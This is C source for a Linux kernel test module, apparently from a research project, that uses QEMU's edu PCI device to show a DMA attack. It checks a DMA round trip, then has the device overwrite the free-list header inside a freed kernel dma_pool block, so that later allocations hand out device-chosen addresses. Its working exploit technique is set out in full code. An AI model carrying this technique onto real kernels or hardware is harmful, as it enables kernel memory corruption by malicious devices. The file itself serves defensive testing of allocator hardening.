// SPDX-License-Identifier: MIT OR GPL-2.0-only
/*
 * edu_attack: a real device rewrites the kernel dma_pool's free list.
 *
 * A PCI driver for QEMU's edu device (tests/device/edu.h). Behind an IOMMU
 * (q35 + intel-iommu, intel_iommu=on) it
 *  1. checks the plumbing: a stock kernel dma_pool, edu DMA out of one pool
 *     block into the device and back into another block, data compared;
 *  2. performs the attack the dmapool project exists for, with the device
 *     itself: since v6.3 mm/dmapool.c keeps { next block vaddr, block dma }
 *     in the first 16 bytes of every *free* block. The driver frees a block;
 *     edu's DMA engine then writes { next = vaddr of a buffer this test
 *     owns, dma = that buffer's dma } into the freed block, which stays
 *     mapped for the device (pool pages are mapped for the pool's life).
 *     The next dma_pool_alloc() hands the block back with the device-chosen
 *     dma address, and the one after returns the device-chosen kernel
 *     address itself.
 *
 * The edu device cannot make up data by itself: the forged 16 bytes are
 * first DMA'd into its internal buffer from a staging area, exactly like a
 * device firmware would hold them. What matters is who writes the freed
 * block: only the device does, through the IOMMU, with no CPU store.
 *
 * Markers (grepped by tests/device/run):
 *   EDU-ATTACK: kernel dma_pool returned device-chosen address <a> (HIJACKED)
 *   EDU-ATTACK SUMMARY: PASS   (round trip correct and hijack observed)
 * Any unexpected result prints a line containing FAIL and the summary FAIL.
 * Addresses are printed with %px on purpose: which address the pool hands
 * out is the result. Test kernels only.
 */
#include <linux/module.h>
#include <linux/pci.h>
#include <linux/dma-mapping.h>
#include <linux/dmapool.h>
#include <linux/iommu.h>
#include <linux/string.h>
#include <linux/mm.h>
#include <linux/vmalloc.h>

#include "edu.h"

#define DRV_NAME	"edu_attack"
#define POOL_BLOCK	512	/* pool block size: round trip length too */
#define POOL_ALIGN	64
/* The test-owned landing buffer: one page, block header at 0, staging after */
#define TARGET_SIZE	PAGE_SIZE
#define STAGING_OFF	2048

/* The v6.3+ free-block header, as the device writes it (little endian). */
struct forged_block {
	u64 next;	/* kernel vaddr the pool will hand out next */
	u64 dma;	/* dma address it will report for the popped block */
};

struct edu_attack {
	struct pci_dev *pdev;
	edu_bar_t bar;
	struct dma_pool *pool;
	void *target;		/* test-owned landing buffer (leaked, see below) */
	dma_addr_t target_dma;
	int fails;
};

#define check(ea, cond, fmt, ...)					\
	({								\
		bool __ok = (cond);					\
		if (!__ok) {						\
			pr_err("EDU-ATTACK: FAIL " fmt "\n", ##__VA_ARGS__); \
			(ea)->fails++;					\
		}							\
		__ok;							\
	})

static void fill_pattern(u8 *p, size_t len, u8 seed)
{
	size_t i;

	for (i = 0; i < len; i++)
		p[i] = (u8)(seed + i * 7);
}

static void report_iommu(struct edu_attack *ea)
{
	struct device *dev = &ea->pdev->dev;
	struct iommu_group *grp = iommu_group_get(dev);
	struct iommu_domain *dom = iommu_get_domain_for_dev(dev);

	pr_info("EDU-ATTACK: iommu group %d, domain type %#x (%s)\n",
		grp ? iommu_group_id(grp) : -1, dom ? dom->type : 0,
		dom && (dom->type & __IOMMU_DOMAIN_PAGING) ?
		"translated" : "NOT translated");
	check(ea, grp && dom && (dom->type & __IOMMU_DOMAIN_PAGING),
	      "edu is not behind a translating IOMMU (need q35 + intel-iommu + intel_iommu=on)");
	if (grp)
		iommu_group_put(grp);
}

/* CPU physical address of coherent memory (may be vmap'ed by dma-iommu). */
static phys_addr_t cpu_phys(void *p)
{
	if (is_vmalloc_addr(p))
		return page_to_phys(vmalloc_to_page(p)) + offset_in_page(p);
	return virt_to_phys(p);
}

/* Step 1: pool block -> device -> another pool block, compare. */
static int roundtrip(struct edu_attack *ea)
{
	dma_addr_t da, db;
	phys_addr_t pa;
	u8 *a, *b;
	int ret;

	a = dma_pool_alloc(ea->pool, GFP_KERNEL, &da);
	b = dma_pool_alloc(ea->pool, GFP_KERNEL, &db);
	if (!check(ea, a && b, "dma_pool_alloc for the round trip"))
		return -ENOMEM;
	pr_info("EDU-ATTACK: round trip blocks %px/%pad -> device -> %px/%pad\n",
		a, &da, b, &db);
	pa = cpu_phys(a);
	pr_info("EDU-ATTACK: block %px is at physical %pa, its dma (IOVA) is %pad\n",
		a, &pa, &da);
	check(ea, pa != da,
	      "dma %pad equals the physical address: no IOMMU translation", &da);

	fill_pattern(a, POOL_BLOCK, 0x3c);
	memset(b, 0, POOL_BLOCK);
	ret = edu_dma_from_ram(ea->bar, da, 0, POOL_BLOCK);
	if (!check(ea, !ret, "edu DMA block -> device: %d", ret))
		goto out;
	ret = edu_dma_to_ram(ea->bar, 0, db, POOL_BLOCK);
	if (!check(ea, !ret, "edu DMA device -> block: %d", ret))
		goto out;
	if (check(ea, !memcmp(a, b, POOL_BLOCK),
		  "round trip data differ (first bytes %*ph vs %*ph)",
		  8, a, 8, b))
		pr_info("EDU-ATTACK: round trip of %d bytes through edu DMA: data OK\n",
			POOL_BLOCK);
out:
	dma_pool_free(ea->pool, b, db);
	dma_pool_free(ea->pool, a, da);
	return ret;
}

/* Step 2: the device rewrites a freed block's embedded free-list link. */
static void attack(struct edu_attack *ea)
{
	struct forged_block *victim_hdr, *staging, *landing;
	dma_addr_t victim_dma, d1, d2;
	void *victim, *a1, *a2;
	int ret;

	ea->target = dma_alloc_coherent(&ea->pdev->dev, TARGET_SIZE,
					&ea->target_dma, GFP_KERNEL);
	if (!check(ea, ea->target, "dma_alloc_coherent for the landing buffer"))
		return;
	/*
	 * The landing buffer is a whole page we own, page aligned, larger than
	 * a pool block: the pool will memset() a block's worth of it (init on
	 * alloc) and that is all it may touch. Its own header says "end of
	 * list", so after the hijack the pool just grows a fresh page.
	 */
	landing = ea->target;
	landing->next = 0;
	landing->dma = ea->target_dma;

	victim = dma_pool_alloc(ea->pool, GFP_KERNEL, &victim_dma);
	if (!check(ea, victim, "dma_pool_alloc for the victim block"))
		return;
	dma_pool_free(ea->pool, victim, victim_dma);
	victim_hdr = victim;
	pr_info("EDU-ATTACK: freed block %px/%pad holds next=%#llx dma=%#llx (pool metadata in DMA memory)\n",
		victim, &victim_dma, victim_hdr->next, victim_hdr->dma);

	/* What the "firmware" wants the pool to believe. */
	staging = ea->target + STAGING_OFF;
	staging->next = (u64)(unsigned long)ea->target;
	staging->dma = ea->target_dma;
	ret = edu_dma_from_ram(ea->bar, ea->target_dma + STAGING_OFF, 0,
			       sizeof(*staging));
	if (!check(ea, !ret, "edu DMA staging -> device: %d", ret))
		return;

	/* The attack: a device write into a block the driver has freed. */
	ret = edu_dma_to_ram(ea->bar, 0, victim_dma, sizeof(*staging));
	if (!check(ea, !ret, "edu DMA device -> freed block: %d", ret))
		return;
	pr_info("EDU-ATTACK: device wrote freed block %pad: next=%#llx dma=%#llx\n",
		&victim_dma, victim_hdr->next, victim_hdr->dma);

	a1 = dma_pool_alloc(ea->pool, GFP_KERNEL, &d1);
	a2 = dma_pool_alloc(ea->pool, GFP_KERNEL, &d2);
	pr_info("EDU-ATTACK: alloc 1 -> %px/%pad, alloc 2 -> %px/%pad\n",
		a1, &d1, a2, &d2);

	if (a1 == victim && d1 == ea->target_dma)
		pr_info("EDU-ATTACK: kernel dma_pool returned block %px with device-chosen dma %pad instead of %pad (HIJACKED)\n",
			a1, &d1, &victim_dma);
	else
		check(ea, false, "alloc 1 not as forged: %px/%pad", a1, &d1);

	if (a2 == ea->target && d2 == ea->target_dma)
		pr_info("EDU-ATTACK: kernel dma_pool returned device-chosen address %px (HIJACKED)\n",
			a2);
	else
		check(ea, false, "alloc 2 did not return the device-chosen address %px (got %px)",
		      ea->target, a2);

	/*
	 * Deliberately no dma_pool_free()/dma_pool_destroy() from here on: the
	 * pool's free list went through device-written memory, the rest of the
	 * victim's page fell off the list, and "allocation" a2 is not a pool
	 * block at all (freeing it would push a foreign buffer into the pool,
	 * destroying with blocks in use only logs "busy" and leaks anyway).
	 * The pool, its page and the landing buffer are leaked on purpose;
	 * remove() turns bus mastering off so the device cannot reach them.
	 */
}

static int edu_attack_probe(struct pci_dev *pdev, const struct pci_device_id *id)
{
	struct edu_attack *ea;
	int ret;

	ea = kzalloc(sizeof(*ea), GFP_KERNEL);
	if (!ea)
		return -ENOMEM;
	ea->pdev = pdev;
	pci_set_drvdata(pdev, ea);

	ret = pci_enable_device(pdev);
	if (!check(ea, !ret, "pci_enable_device: %d", ret))
		goto err_free;
	ret = pci_request_region(pdev, EDU_BAR, DRV_NAME);
	if (!check(ea, !ret, "pci_request_region: %d", ret))
		goto err_disable;
	ea->bar = pci_iomap(pdev, EDU_BAR, 0);
	if (!check(ea, ea->bar, "pci_iomap BAR0")) {
		ret = -ENOMEM;
		goto err_release;
	}
	ret = edu_probe_regs(ea->bar);
	if (!check(ea, !ret, "edu id/liveness registers (id %#x)",
		   edu_rd32(ea->bar, EDU_REG_ID)))
		goto err_unmap;
	pci_set_master(pdev);
	ret = dma_set_mask_and_coherent(&pdev->dev,
					DMA_BIT_MASK(EDU_DMA_MASK_BITS));
	if (!check(ea, !ret, "dma_set_mask_and_coherent(%d bits): %d",
		   EDU_DMA_MASK_BITS, ret))
		goto err_master;

	pr_info("EDU-ATTACK: edu %s id %#x, bus master on, dma mask %d bits\n",
		pci_name(pdev), edu_rd32(ea->bar, EDU_REG_ID), EDU_DMA_MASK_BITS);
	report_iommu(ea);

	ea->pool = dma_pool_create("edu-attack", &pdev->dev, POOL_BLOCK,
				   POOL_ALIGN, 0);
	if (check(ea, ea->pool, "dma_pool_create")) {
		if (!roundtrip(ea))
			attack(ea);
	}

	pr_info("EDU-ATTACK SUMMARY: %s\n", ea->fails ? "FAIL" : "PASS");
	/* Stay bound even on failure: the summary line is the verdict. */
	return 0;

err_master:
	pci_clear_master(pdev);
err_unmap:
	pci_iounmap(pdev, ea->bar);
err_release:
	pci_release_region(pdev, EDU_BAR);
err_disable:
	pci_disable_device(pdev);
err_free:
	pr_info("EDU-ATTACK SUMMARY: FAIL\n");
	kfree(ea);
	return ret;
}

static void edu_attack_remove(struct pci_dev *pdev)
{
	struct edu_attack *ea = pci_get_drvdata(pdev);

	/* Pool and landing buffer stay leaked (see attack()). */
	pci_clear_master(pdev);
	pci_iounmap(pdev, ea->bar);
	pci_release_region(pdev, EDU_BAR);
	pci_disable_device(pdev);
	kfree(ea);
}

static const struct pci_device_id edu_attack_ids[] = {
	{ PCI_DEVICE(EDU_VENDOR_ID, EDU_DEVICE_ID) },
	{ }
};
MODULE_DEVICE_TABLE(pci, edu_attack_ids);

static struct pci_driver edu_attack_driver = {
	.name = DRV_NAME,
	.id_table = edu_attack_ids,
	.probe = edu_attack_probe,
	.remove = edu_attack_remove,
};
module_pci_driver(edu_attack_driver);

MODULE_DESCRIPTION("edu DMA rewrites a freed kernel dma_pool block (attack demo)");
MODULE_LICENSE("Dual MIT/GPL");
